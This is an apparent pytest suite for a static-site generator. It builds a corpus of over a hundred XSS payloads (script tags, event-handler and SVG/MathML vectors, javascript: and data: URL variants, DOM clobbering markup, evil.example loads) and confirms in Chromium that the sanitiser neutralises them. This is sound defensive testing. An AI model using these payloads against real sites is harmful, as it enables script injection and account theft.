"""The XSS corpus: payloads an agent (or a model) could write, through every path to the site.

One vault holds them all (note bodies, markdown links and images, wikilinks, frontmatter
fields, file and folder names, an agent's title that becomes a search filter, a consolidation
run in the changelog feed), built once; one Chromium session visits every page they reach,
the Search page with a query, the header's search modal with its filters open, the feed,
``llms.txt`` and ``graph.json``. Each payload calls ``__dfn_canary(<its number>)`` (or
``alert``/``print``) and some load from ``evil.example``: nothing may fire, open a dialog,
or leave the site's origin, and no ``script-src`` violation may be reported (the sanitiser,
not the Content-Security-Policy, must be what stops them; a separate test shows the policy
stopping a script that got into a page).

Also here: DOM clobbering (note ids and names cannot take the page's own), every kind of
anchor landing on its target, the policy on the demo's key pages with zero violations, and
`sanitize_svg` on payloads and on ordinary drawings.
"""

from __future__ import annotations

import base64
import gzip
import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest

from generator.pipeline import build
from generator.publish.csp import add_policy, policy
from generator.publish.sanitize import sanitize, sanitize_svg
from tests.browser_helpers import CHROMIUM, MODAL_INPUT, MODAL_RESULTS, serve
from tests.conftest import Built, settings_for, write_vault

browser_only = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium"),
]
WORD = "quagga"  # in every payload note, for the searches
EVIL = "evil.example"


# --- the corpus ---------------------------------------------------------------------------


@dataclass
class Corpus:
    """Payloads, each numbered; its script calls ``__dfn_canary(number)``."""

    payloads: dict[int, str] = field(default_factory=dict)

    def add(self, make: Callable[[str], str]) -> str:
        number = len(self.payloads) + 1
        text = make(f"__dfn_canary({number})")
        self.payloads[number] = text
        return text


# Markup that runs script if it survives: classic vectors, attribute breakouts, SVG and MathML
# tricks, mutation XSS, template and style injection, tags that reach other hosts.
HTML_VECTORS: list[Callable[[str], str]] = [
    lambda js: f"<script>{js}</script>",
    lambda js: f"<img src=x onerror={js}>",
    lambda js: f'<img src="x" onerror="{js}">',
    lambda js: f"<img src=x:x onerror={js}//>",
    lambda js: f"<svg onload={js}>",
    lambda js: f"<svg><script>{js}</script></svg>",
    lambda js: f'<svg><a xlink:href="javascript:{js}"><text y="20">svg link</text></a></svg>',
    lambda js: f'<svg><animate onbegin="{js}" attributeName="x" dur="1s"></animate></svg>',
    lambda js: f'<svg><a><set attributeName="href" to="javascript:{js}"/><text>s</text></a></svg>',
    lambda js: f"<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    lambda js: f"<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    lambda js: f'<math href="javascript:{js}">math link</math>',
    lambda js: f"<body onload={js}>",
    lambda js: f'<iframe src="javascript:{js}"></iframe>',
    lambda js: f'<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    lambda js: f'<object data="javascript:{js}"></object>',
    lambda js: f'<embed src="javascript:{js}">',
    lambda js: f'<form action="javascript:{js}"><button>go</button></form>',
    lambda js: f'<form><button formaction="javascript:{js}">go</button></form>',
    lambda js: f"<input onfocus={js} autofocus>",
    lambda js: f"<details open ontoggle={js}><summary>d</summary></details>",
    lambda js: f"<video><source onerror={js}></video>",
    lambda js: f"<audio src=x onerror={js}></audio>",
    lambda js: f"<marquee onstart={js}>m</marquee>",
    lambda js: f'<base href="javascript:{js}//">',
    lambda js: f'<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    lambda js: f"<template><img src=x onerror={js}></template>",
    lambda js: f'<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
    lambda js: f"<xmp><img src=x onerror={js}></xmp>",
    lambda js: f"<scr<script>ipt>{js}</scr</script>ipt>",
    lambda js: f'<!--<img src="--><img src=x onerror={js}//">',
    lambda js: f'<p title="x" onmouseover="{js}" style="position:fixed;inset:0">cover</p>',
    lambda js: f"<div onclick={js} id=__dfn_click>click me</div>",
    lambda js: f'<a href="#" onclick="{js}">hash link</a>',
    lambda js: f"<style>body{{background:url(https://{EVIL}/{js[13:-1]}.png)}}</style>",
    lambda js: f"<style>@import 'https://{EVIL}/{js[13:-1]}.css';</style>",
    lambda js: f'<link rel="stylesheet" href="https://{EVIL}/{js[13:-1]}.css">',
    lambda js: f'<img src="https://{EVIL}/{js[13:-1]}.png">',
    lambda js: f'<div style="background:url(https://{EVIL}/{js[13:-1]}.png)">bg</div>',
    lambda js: f'"><img src=x onerror={js}>',
    lambda js: f"'><svg onload={js}>",
    lambda js: f"</textarea></title></style></script><img src=x onerror={js}>",
]

# What a URL slot could be given.
URL_VECTORS: list[Callable[[str], str]] = [
    lambda js: f"javascript:{js}",
    lambda js: f"JaVaScRiPt:{js}",
    lambda js: f"javascript&#58;{js}",
    lambda js: f"&#106;avascript:{js}",
    lambda js: f"jav&#x09;ascript:{js}",
    lambda js: f"java%0ascript:{js}",
    lambda js: (
        "data:text/html;base64," + base64.b64encode(f"<script>{js}</script>".encode()).decode()
    ),
    lambda js: f"vbscript:{js}",
]


def _markdown_payloads(corpus: Corpus) -> str:
    """A note body: every HTML vector raw, in a block and inline, and markdown's own slots."""
    parts = [f"# Body payloads\n\nThe {WORD} note, with every payload inert.\n"]
    for vector in HTML_VECTORS:
        parts.append(corpus.add(vector))  # a raw HTML block
        parts.append(f"Inline {corpus.add(vector)} text.")
    for vector in URL_VECTORS:
        parts.append(f"[markdown link]({corpus.add(vector)})")
        parts.append(f"[spaced link]( {corpus.add(vector)})")
        parts.append(f"![markdown image]({corpus.add(vector)})")
        parts.append(
            f"[ref link][r{len(corpus.payloads)}]\n\n[r{len(corpus.payloads)}]: "
            f"{corpus.add(vector)}"
        )
        parts.append(f'<a href="{corpus.add(vector)}">html link</a>')
        parts.append(f'<a href=" {corpus.add(vector)}">spaced html link</a>')
        parts.append(f'<img src="{corpus.add(vector)}" alt="html image">')
    parts += [
        corpus.add(lambda js: f"<javascript:{js}>"),  # an autolink
        corpus.add(lambda js: f'[titled](https://ok.example "t\\" onmouseover=\\"{js}")'),
        corpus.add(lambda js: f'[titled](https://ok.example "" onmouseover={js})'),
        corpus.add(lambda js: f'Paragraph with attributes\n{{: onclick="{js}" }}'),
        corpus.add(lambda js: f'## Heading with attributes {{ onclick="{js}" #__config }}'),
        corpus.add(lambda js: f'Styled\n{{: style="background:url(https://{EVIL}/a)" }}'),
        corpus.add(lambda js: f"> [!note] <img src=x onerror={js}>\n> callout body"),
        corpus.add(lambda js: f"> [!warning]- Folded <svg onload={js}>\n> folded body"),
        corpus.add(lambda js: f"| a | b |\n|---|---|\n| <img src=x onerror={js}> | c |"),
        corpus.add(lambda js: f"Footnote here[^x{len(js)}].\n\n[^x{len(js)}]: <svg onload={js}>"),
        corpus.add(lambda js: f"## <img src=x onerror={js}> heading"),
        corpus.add(lambda js: f'<div markdown="1">\n**bold** <img src=x onerror={js}>\n</div>'),
        corpus.add(lambda js: f"<div>\n<script>{js}</script>\n</div>"),
        corpus.add(lambda js: f"- [ ] task <img src=x onerror={js}>"),
        corpus.add(lambda js: f"`<img src=x onerror={js}>` in code"),
        corpus.add(lambda js: f"```html\n<script>{js}</script>\n```"),
        corpus.add(lambda js: f"%% <img src=x onerror={js}> %%"),
        corpus.add(lambda js: f"<span>%%</span><img src=x onerror={js}><span>%%</span>"),
    ]
    return "\n\n".join(parts) + "\n"


def _wikilink_payloads(corpus: Corpus) -> str:
    parts = [f"# Wikilink payloads\n\nThe {WORD} links.\n"]
    for vector in URL_VECTORS[:3]:
        parts.append(f"[[{corpus.add(vector)}]]")
        parts.append(f"![[{corpus.add(vector)}]]")
        parts.append(f"[[Target|{corpus.add(vector)}]]")
    for vector in HTML_VECTORS[:6]:
        parts.append(f"[[Target|{corpus.add(vector)}]]")
        parts.append(f"[[Target#{corpus.add(vector)}]]")
        parts.append(f"[[{corpus.add(vector)}]]")
    parts.append(corpus.add(lambda js: f'[[Target|x" onmouseover="{js}]]'))
    parts.append(corpus.add(lambda js: f"[[Target#Skill|skill <img src=x onerror={js}>]]"))
    parts.append(corpus.add(lambda js: f"[md to note](Target.md#<img src=x onerror={js}>)"))
    return "\n\n".join(parts) + "\n"


def _frontmatter_payloads(corpus: Corpus) -> dict[str, str]:
    """A note per frontmatter field a page shows, the payload in that field."""

    def value(make: Callable[[str], str] = HTML_VECTORS[1]) -> str:
        return json.dumps(corpus.add(make))

    files: dict[str, str] = {}
    fields = {
        "title": value(),
        "description": value(HTML_VECTORS[4]),
        "aliases": f"[{value()}, {value(HTML_VECTORS[0])}]",
        "tags": f"[{value()}, {json.dumps('ok-' + WORD)}]",
        "source": value(URL_VECTORS[0]),
        "url": value(URL_VECTORS[6]),
        "owner": value(HTML_VECTORS[39]),
        "job": value(HTML_VECTORS[40]),
        "model": value(HTML_VECTORS[41]),
        "related": json.dumps(f"[[Target|{corpus.add(HTML_VECTORS[1])}]]"),
        "custom property": value(HTML_VECTORS[31]),
    }
    for number, (name, text) in enumerate(fields.items()):
        files[f"notes/Field {number}.md"] = (
            f"---\n{json.dumps(name)}: {text}\n---\nThe {WORD} field {name}.\n"
        )
    return files


def _named_payloads(corpus: Corpus) -> dict[str, str]:
    """File and folder names (no '/' in them), an agent whose title and name become a search
    filter, its run and article, and a consolidation run for the changelog feed."""
    name_js: list[Callable[[str], str]] = [
        lambda js: f"<img src=x onerror={js}>",
        lambda js: f'"><svg onload={js}>',
        lambda js: f"'><script>{js}<\u2215script>",
    ]
    files: dict[str, str] = {}
    for make in name_js:
        files[f"notes/{corpus.add(make)}.md"] = f"The {WORD} file name.\n"
    folder = corpus.add(lambda js: f"<svg onload={js}>")
    files[f"{folder}/Inside.md"] = f"The {WORD} folder name.\n"
    agent_file = corpus.add(lambda js: f"<img src=x onerror={js}>")
    agent_title = corpus.add(lambda js: f"Evil <img src=x onerror={js}> & R&D")
    article_title = corpus.add(lambda js: f"Skill <svg onload={js}>")
    files[f"agents/{agent_file}.md"] = (
        f'---\ntype: agent\ntitle: {json.dumps(agent_title)}\njob: "x"\nowner: "y"\n---\n'
        f"The {WORD} agent.\n"
    )
    files["articles/Evil skill.md"] = (
        f"---\ntype: definitive\ntitle: {json.dumps(article_title)}\n"
        f'description: "The {WORD} skill."\n---\n## Skill\n1. Do it.\n## Learnings\n'
        f"- {corpus.add(HTML_VECTORS[1])} ^l-evil\n"
    )
    summary = corpus.add(lambda js: f"<script>{js}</script> & <img src=x onerror={js}>")
    files["meta/2026-11-02 run.md"] = (
        f'---\ntype: meta\narticle: "[[Evil skill]]"\nagent: "[[{agent_file}]]"\n'
        "date: 2026-11-02\noutcome: success\ntokens_in: 10\ntokens_out: 10\ncost_usd: 0.01\n"
        f"duration_s: 3\nmodel: m\n---\nThe {WORD} run. {corpus.add(HTML_VECTORS[4])}\n"
    )
    files["meta/2026-11-03 consolidation.md"] = (
        "---\ntype: meta\ndate: 2026-11-03\noutcome: success\n"
        "consolidation_run: 20261103T010000Z\n---\n## What was done\n"
        f"Consolidation run merged [[Evil skill]]. {summary}\n"
    )
    return files


def _clobbering_note() -> str:
    config = json.dumps({"base": f"https://{EVIL}/", "features": [], "search": "x.js"})
    return f"""\
# Clobbering

The {WORD} clobbering note: none of these may take the page's own names.

<div id="__config">{config}</div>

<div id="dfn-search" data-dfn-root="https://{EVIL}/"></div>

<div id="dfn-graph" data-graph="https://{EVIL}/g.json"></div>

<form name="__md_scope"><input name="pathname"></form>

<img name="__md_get" src="x.png"> <img name="PagefindComponents" src="x.png">

<a name="__md_set">named anchor</a> <a id="__drawer">drawer</a> <a id="__search">s</a>

<img name="getElementById" src="x.png"> <form name="querySelector"></form>

<label for="__palette_1">a label for the palette toggle</label>

## dfn search

A heading whose slug is dfn-search.

Attribute list id
{{#__config}}

## Skill

The target of the anchors.
"""


ANCHORS = (
    """\
# Anchors

[to the skill](#skill) · [to the raw div](#raw-div) ·
[to the block](#^anchor-block) · [[Other#Far heading|to the other page]]

Some text with a footnote[^1].

<div id="raw-div">A raw div with an id.</div>

A paragraph.

"""
    + "\n\n".join(f"Filler paragraph {n} to make the page scroll." for n in range(60))
    + """

## Skill

The skill section.

- A block to link to ^anchor-block

"""
    + "\n\n".join(f"More filler {n}." for n in range(60))
    + """

[^1]: The footnote text.
"""
)


@dataclass
class XssSite:
    built: Built
    corpus: Corpus
    pages: list[str]


@pytest.fixture(scope="module")
def xss_site(tmp_path_factory: pytest.TempPathFactory) -> XssSite:
    corpus = Corpus()
    files: dict[str, str | bytes] = {
        "notes/Body payloads.md": _markdown_payloads(corpus),
        "notes/Wikilink payloads.md": _wikilink_payloads(corpus),
        "notes/Target.md": f"# Target\n\nThe {WORD} target.\n\n## Skill\n\nx\n",
        "notes/Clobbering.md": _clobbering_note(),
        "notes/Anchors.md": ANCHORS,
        "notes/Other.md": "# Other\n\n" + "Filler.\n\n" * 60 + "## Far heading\n\nFar.\n",
        **_frontmatter_payloads(corpus),
        **_named_payloads(corpus),
    }
    base = tmp_path_factory.mktemp("xss")
    vault = write_vault(base / "vault", files)
    settings = settings_for(vault, base / "site")
    built = Built(settings, build(settings))
    pages = sorted(
        p.parent.relative_to(built.site).as_posix() + "/"
        for p in built.site.rglob("index.html")
        if "pagefind" not in p.parts
    )
    return XssSite(built, corpus, [p.removeprefix("./") for p in pages])


def test_the_corpus_holds_over_a_hundred_payloads(xss_site: XssSite) -> None:
    assert len(set(xss_site.corpus.payloads.values())) >= 100
    # Every path reached the site: file and folder names, the agent, the feed.
    html = "".join(
        (xss_site.built.site / page / "index.html").read_text("utf-8") for page in xss_site.pages
    )
    assert html.count(WORD) > 20
    feed = (xss_site.built.site / "changelog.xml").read_text("utf-8")
    assert "Consolidation run merged" in feed


class _Parsed(HTMLParser):
    """Tags with their attributes and the text of scripts, as an HTML parser reads a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster"}


def test_no_payload_survives_in_any_page_or_output(xss_site: XssSite) -> None:
    """Statically: no page of the site carries script from a note (no script with a canary, no
    event handler, no script URL), and the feed holds the payloads only as text."""
    site = xss_site.built.site
    for page in xss_site.pages:
        html = (site / page / "index.html").read_text("utf-8")
        parsed = _Parsed()
        parsed.feed(html)
        assert not [s for s in parsed.scripts if "__dfn_canary" in s], page
        article = _Parsed()
        article.feed(html.split("<article", 1)[1].split("</article>", 1)[0])
        assert not {t for t, _ in article.tags} & {"iframe", "object", "embed", "base", "form"}
        for tag, attrs in parsed.tags:
            for name, value in attrs:
                assert not name.startswith("on"), (page, tag, name)
                plain = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
                if name in URL_ATTRIBUTES:
                    assert not plain.startswith(("javascript:", "vbscript:", "data:text")), (
                        page,
                        tag,
                        value,
                    )
                    assert EVIL not in plain, (page, tag, value)
                assert name != "srcdoc", (page, tag)
    feed = (site / "changelog.xml").read_text("utf-8")
    assert "<script" not in feed and "<img" not in feed and "&lt;script&gt;" in feed


# --- in the browser -------------------------------------------------------------------------

CANARY = """
window.__dfn_fired = [];
window.__dfn_canary = function (n) { window.__dfn_fired.push(String(n)); };
window.alert = function (m) { window.__dfn_fired.push('alert:' + m); };
window.print = function () { window.__dfn_fired.push('print'); };
window.__dfn_violations = [];
document.addEventListener('securitypolicyviolation', function (e) {
  window.__dfn_violations.push(e.effectiveDirective + ' ' + e.blockedURI);
});
"""


@pytest.fixture(scope="module")
def browser():
    if not CHROMIUM.exists():
        pytest.skip("needs Debian's chromium")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=str(CHROMIUM),
            headless=True,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield browser
        browser.close()


@dataclass
class Watched:
    """A page with the canary in every frame, its dialogs caught and every request to another
    host blocked and recorded."""

    page: object
    dialogs: list[str]
    outside: list[str]

    def fired(self) -> list[str]:
        return self.page.evaluate("window.__dfn_fired || []")  # type: ignore[attr-defined]

    def violations(self) -> list[str]:
        return self.page.evaluate("window.__dfn_violations || []")  # type: ignore[attr-defined]


@contextmanager
def _watched(browser, url: str) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(CANARY)
    outside: list[str] = []

    def route(r) -> None:
        if r.request.url.startswith((url, "data:", "blob:", "about:")):
            r.continue_()
        else:
            outside.append(r.request.url)
            r.abort()

    context.route("**/*", route)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        yield Watched(page, dialogs, outside)
    finally:
        context.close()


@pytest.fixture(scope="module")
def xss_url(xss_site: XssSite) -> Iterator[str]:
    with serve(xss_site.built.site) as url:
        yield url


# Attributes that would run or load something, as the browser parsed the page.
DOM_CHECK = """() => {
  const bad = [];
  for (const e of document.querySelectorAll('*')) {
    for (const a of e.attributes) {
      const v = a.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
      if (a.name.startsWith('on')) bad.push(e.tagName + ' ' + a.name);
      if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc'].includes(a.name)
          && (v.startsWith('javascript:') || v.startsWith('vbscript:')
              || v.startsWith('data:text') || a.name === 'srcdoc'))
        bad.push(e.tagName + ' ' + a.name + '=' + a.value.slice(0, 60));
    }
  }
  for (const tag of ['iframe', 'object', 'embed', 'base', 'form', 'meta[http-equiv=refresh]'])
    if (document.querySelector('article ' + tag)) bad.push('article ' + tag);
  return bad;
}"""


POKE = """() => {
  for (const e of document.querySelectorAll('article *')) {
    if (e.closest('a')) continue;
    for (const type of ['mouseover', 'mouseenter', 'focus', 'animationstart'])
      e.dispatchEvent(new Event(type, {bubbles: true}));
    if (e.focus) e.focus();
    if (e.click && !['SUMMARY', 'LABEL', 'INPUT'].includes(e.tagName)) e.click();
  }
}"""


def _settle(watched: Watched) -> None:
    page = watched.page
    page.wait_for_load_state("load")  # type: ignore[attr-defined]
    page.wait_for_timeout(150)  # type: ignore[attr-defined]


@pytest.mark.browser
def test_every_page_of_the_corpus_runs_nothing(browser, xss_site: XssSite, xss_url: str) -> None:
    with _watched(browser, xss_url) as watched:
        page = watched.page
        for path in xss_site.pages:
            page.goto(xss_url + path)  # type: ignore[attr-defined]
            _settle(watched)
            assert page.evaluate(DOM_CHECK) == [], path  # type: ignore[attr-defined]
            # Hover, focus and click whatever a payload would need hovered, focused or clicked
            # (links aside: their hrefs are checked above).
            page.evaluate(POKE)  # type: ignore[attr-defined]
            page.wait_for_timeout(50)  # type: ignore[attr-defined]
            assert watched.fired() == [], path
            scripts = [v for v in watched.violations() if v.startswith("script-src")]
            assert scripts == [], path  # the sanitiser stopped them, not the policy
        assert len(xss_site.pages) > 20
        assert watched.dialogs == []
        assert {u for u in watched.outside if EVIL not in u} == set()
        assert watched.outside == [], watched.outside  # no request left the site


@pytest.mark.browser
def test_search_page_and_modal_show_payloads_as_text(
    browser, xss_site: XssSite, xss_url: str
) -> None:
    """Every result (titles and excerpts of the payload notes) and an agent titled with a
    payload, a filter value, are written as text by both ways in; filtering by it works."""
    agent_title = next(v for v in xss_site.corpus.payloads.values() if v.startswith("Evil <img"))
    with _watched(browser, xss_url) as watched:
        page = watched.page
        page.goto(xss_url + f"find/?q={WORD}")  # type: ignore[attr-defined]
        results = page.locator("#dfn-search a.dfn-finder__link")  # type: ignore[attr-defined]
        results.first.wait_for(timeout=15_000)
        more = page.locator("#dfn-search button.dfn-finder__more")  # type: ignore[attr-defined]
        while more.is_visible():  # five at a time: show them all
            shown = results.count()
            more.click()
            page.wait_for_function(  # type: ignore[attr-defined]
                "n => document.querySelectorAll('#dfn-search a.dfn-finder__link').length > n",
                arg=shown,
            )
        assert results.count() > 20
        tags = page.locator("#dfn-search .dfn-finder__results *").evaluate_all(  # type: ignore[attr-defined]
            "es => [...new Set(es.map(e => e.tagName))].sort()"
        )
        assert set(tags) <= {"A", "LI", "MARK", "P"}, tags  # no element from the index
        excerpts = " ".join(page.locator("#dfn-search .dfn-finder__excerpt").all_inner_texts())  # type: ignore[attr-defined]
        assert "<" in excerpts  # payloads shown as the text they are
        page.locator("#dfn-search summary.dfn-finder__filters-toggle").click()  # type: ignore[attr-defined]
        agents = page.locator(  # type: ignore[attr-defined]
            '#dfn-search label.dfn-finder__option:has(input[name="agent"])'
        )
        agents.first.wait_for(timeout=15_000)
        labels = agents.all_inner_texts()
        assert any(agent_title in label for label in labels), labels  # shown as written
        page.wait_for_timeout(300)  # type: ignore[attr-defined]
        assert watched.fired() == []
        agents.filter(has_text=agent_title).click()
        page.wait_for_function(  # type: ignore[attr-defined]
            "() => document.querySelectorAll('#dfn-search a.dfn-finder__link').length === 3"
        )
        hrefs = results.evaluate_all("ls => ls.map(l => l.getAttribute('href'))")
        # The agent's page, its run and the article only it ran: filtering by the value works.
        assert {h.split("/")[1] for h in hrefs} == {"agents", "meta", "articles"}
        assert page.evaluate(DOM_CHECK) == []  # type: ignore[attr-defined]

        page.goto(xss_url + "notes/target/")  # type: ignore[attr-defined]
        page.locator("[data-dfn-search]").click()  # type: ignore[attr-defined]
        field_ = page.locator(MODAL_INPUT)  # type: ignore[attr-defined]
        field_.press_sequentially(WORD, delay=10)
        page.locator(MODAL_RESULTS).first.wait_for(timeout=15_000)  # type: ignore[attr-defined]
        page.locator("dialog.dfn-search-modal summary.dfn-finder__filters-toggle").click()  # type: ignore[attr-defined]
        options = page.locator(  # type: ignore[attr-defined]
            'dialog.dfn-search-modal label.dfn-finder__option:has(input[name="agent"])'
        )
        options.first.wait_for(timeout=15_000)
        labels = options.all_inner_texts()
        assert any(agent_title in label for label in labels), labels
        options.filter(has_text=agent_title).click()
        page.wait_for_function(  # type: ignore[attr-defined]
            "() => document.querySelectorAll('dialog.dfn-search-modal a.dfn-finder__link')"
            ".length === 3"
        )
        page.wait_for_timeout(300)  # type: ignore[attr-defined]
        assert watched.fired() == []
        assert page.evaluate(DOM_CHECK) == []  # type: ignore[attr-defined]
        assert watched.dialogs == [] and watched.outside == []


@pytest.mark.browser
def test_feed_llms_txt_and_graph_json_run_nothing_when_opened(
    browser, xss_site: XssSite, xss_url: str
) -> None:
    with _watched(browser, xss_url) as watched:
        page = watched.page
        for path in ("changelog.xml", "llms.txt", "graph.json", "changelog/", "graph/"):
            page.goto(xss_url + path)  # type: ignore[attr-defined]
            _settle(watched)
            assert watched.fired() == [], path
        assert watched.dialogs == [] and watched.outside == []


# --- DOM clobbering -------------------------------------------------------------------------


@pytest.mark.browser
def test_note_ids_and_names_cannot_take_the_pages_own(
    browser, xss_site: XssSite, xss_url: str
) -> None:
    html = xss_site.built.html("notes/clobbering/")
    article = html.split('<article class="md-content__inner md-typeset">', 1)[1]
    ids = re.findall(r'\sid="([^"]*)"', article.split("</article>", 1)[0])
    assert ids and all(i.startswith("user-content-") for i in ids), ids
    with _watched(browser, xss_url) as watched:
        page = watched.page
        page.goto(xss_url + "notes/clobbering/")  # type: ignore[attr-defined]
        _settle(watched)
        state = page.evaluate(  # type: ignore[attr-defined]
            """() => ({
              config: document.getElementById('__config').tagName,
              configBase: JSON.parse(document.querySelector('#__config').textContent).base,
              search: document.getElementById('dfn-search'),
              graph: document.getElementById('dfn-graph'),
              windowSearch: typeof window['dfn-search'],
              scope: String(window.__md_scope),
              get: typeof window.__md_get,
              set: typeof window.__md_set,
              components: typeof window.PagefindComponents,
              byId: typeof document.getElementById,
              query: typeof document.querySelector,
              drawer: document.getElementById('__drawer').tagName,
            })"""
        )
        assert state == {
            "config": "SCRIPT",
            "configBase": "../..",
            "search": None,
            "graph": None,
            "windowSearch": "undefined",
            "scope": xss_url,
            "get": "function",
            "set": "function",
            "components": "undefined",
            "byId": "function",
            "query": "function",
            "drawer": "INPUT",
        }
        # The page still works: the palette toggles, the search modal opens.
        for toggle in ("__palette_1", "__palette_2"):  # the system's palette, light, then dark
            page.locator(f"label[for={toggle}]").click()  # type: ignore[attr-defined]
        scheme = page.locator("body").get_attribute("data-md-color-scheme")  # type: ignore[attr-defined]
        assert scheme == "slate"
        page.locator("[data-dfn-search]").click()  # type: ignore[attr-defined]
        page.locator(MODAL_INPUT).press_sequentially(WORD, delay=10)  # type: ignore[attr-defined]
        page.locator(MODAL_RESULTS).first.wait_for(timeout=15_000)  # type: ignore[attr-defined]
        assert watched.fired() == [] and watched.outside == []


# --- anchors --------------------------------------------------------------------------------


def _top(page, selector: str) -> float:
    return page.locator(selector).first.evaluate("e => e.getBoundingClientRect().top")


@pytest.mark.browser
def test_every_kind_of_anchor_lands_on_its_target(browser, xss_url: str) -> None:
    """Fragments stay clean (#skill) and reach the prefixed ids with no script: links in the
    page, a footnote and its way back, the table of contents, a link from another page, and
    a URL shared before the prefix (JavaScript off, so no script helps)."""
    for javascript in (True, False):
        context = browser.new_context(
            viewport={"width": 1280, "height": 700}, java_script_enabled=javascript
        )
        page = context.new_page()

        def landed(selector: str, page=page) -> None:
            """At the top of the window, below Material's sticky header (as an id lands)."""
            header = page.evaluate(
                "() => document.querySelector('.md-header').getBoundingClientRect().bottom"
            )
            top = _top(page, selector)
            bottom = page.evaluate(
                "() => scrollY + innerHeight >= document.documentElement.scrollHeight - 2"
            )
            assert header - 2 <= top < (700 - 20 if bottom else 700 / 2), (selector, top, header)

        anchors = xss_url + "notes/anchors/"
        for href, target in (
            ("#skill", "#user-content-skill"),
            ("#raw-div", "#user-content-raw-div"),
            ("#^anchor-block", '[id="user-content-^anchor-block"]'),
        ):
            page.goto(anchors)
            page.locator(f'article a[href="{href}"]:not(.headerlink)').click()
            page.wait_for_timeout(200)
            assert page.url == anchors + href
            landed(target)
        page.goto(anchors)
        page.locator("article a.footnote-ref").click()
        page.wait_for_timeout(200)
        landed('[id="user-content-fn:1"]')
        page.locator("article a.footnote-backref").click()
        page.wait_for_timeout(200)
        landed('[id="user-content-fnref:1"]')
        page.goto(anchors + "#skill")  # a URL shared before, straight in
        page.wait_for_timeout(200)
        landed("#user-content-skill")
        page.locator("article h2#user-content-skill a.headerlink").click()  # its permalink
        assert page.url == anchors + "#skill"
        page.goto(anchors)
        page.locator("article a", has_text="to the other page").click()
        page.wait_for_url("**/notes/other/#far-heading")
        page.wait_for_timeout(200)
        landed("#user-content-far-heading")
        if javascript:  # the table of contents is Material's, scroll-tracked by id
            page.goto(anchors)
            toc = page.locator('.md-nav--secondary a[href="#user-content-skill"]')
            toc.click()
            page.wait_for_timeout(400)
            landed("#user-content-skill")
            active = page.locator(".md-nav--secondary .md-nav__link--active")
            assert "Skill" in active.first.inner_text()
        context.close()


def test_sanitised_ids_and_their_references() -> None:
    html = sanitize(
        '<h2 id="skill">S</h2><input id="q" name="g"><label for="q">Q</label>'
        '<p aria-describedby="a b">x</p><a id="l" href="#skill">l</a>'
        '<svg><g id="inside"></g></svg><a href="#x"><span id="nested">n</span></a>'
        '<form name="f"></form><img name="n" src="x.png"><a name="kept">k</a>'
    )
    assert '<h2 id="user-content-skill"><a name="skill"></a>S</h2>' in html
    assert 'id="user-content-q" name="user-content-g"' in html  # a radio group stays a group
    assert 'for="user-content-q"' in html
    assert 'aria-describedby="user-content-a user-content-b"' in html
    assert '<a name="l"></a><a id="user-content-l" href="#skill">' in html  # anchors don't nest
    assert '<g id="user-content-inside"></g>' in html and 'name="inside"' not in html
    assert '<span id="user-content-nested">n</span>' in html and 'name="nested"' not in html
    assert 'name="user-content-n"' in html and '<a name="kept">' in html
    assert "<form" not in html


# --- the Content-Security-Policy ------------------------------------------------------------


def test_policy_text() -> None:
    text = policy(
        ["abc="], iframe_hosts=["Video.Example"], extra={"img-src": ["https://i.example"]}
    )
    directives = dict(d.split(" ", 1) for d in text.split("; "))
    assert directives["script-src"] == "'self' 'wasm-unsafe-eval' 'sha256-abc='"
    assert directives["frame-src"] == "https://video.example"
    assert directives["object-src"] == "'none'" and directives["base-uri"] == "'self'"
    assert directives["img-src"] == "'self' data: https://i.example"
    assert "unsafe-inline" not in directives["script-src"]
    assert "frame-src 'none'" in policy()


def test_policy_hashes_the_templates_scripts_never_the_contents() -> None:
    content = "<p>note</p><script>__dfn_canary(1)</script>"
    page = (
        '<html><head><meta charset="utf-8"><script>var a=1</script>'
        '<script src="x.js"></script><script type="application/json">{}</script></head>'
        f"<body>{content}</body></html>"
    )
    out = add_policy(page, content)
    assert out.index("Content-Security-Policy") < out.index("<script>var a=1")
    assert out.index('<meta charset="utf-8">') < out.index("Content-Security-Policy")
    hashes = re.findall(r"'sha256-([^']+)'", out)
    assert len(hashes) == 1  # var a=1 only: not the src script, the JSON nor the content's
    assert base64.b64decode(hashes[0]) == __import__("hashlib").sha256(b"var a=1").digest()


@pytest.mark.parametrize(
    "setting",
    [
        {"script-src": ["https://a.example; script-src *"]},  # a directive of its own
        {"img-src": ["https://a.example other"]},
        {"img-src": "https://a.example"},
        {"sandbox": ["allow-scripts"]},
        "yes",
    ],
)
def test_csp_option_refuses_what_is_not_a_source(setting: object) -> None:
    from generator.config import Options
    from generator.errors import UsageError

    with pytest.raises(UsageError, match=r"extra\.definitive\.csp"):
        Options.from_mapping({"csp": setting}, "mkdocs.yml")
    assert Options.from_mapping({"csp": {"img-src": ["https://i.example"]}}, "m").csp


def test_no_policy_under_the_live_preview() -> None:
    """`definitive serve`'s live-reload script is inline and new on every request: the preview
    (on 127.0.0.1, for the user alone) goes without the policy; every build has it."""
    from generator.publish import mkdocs_hooks as hooks

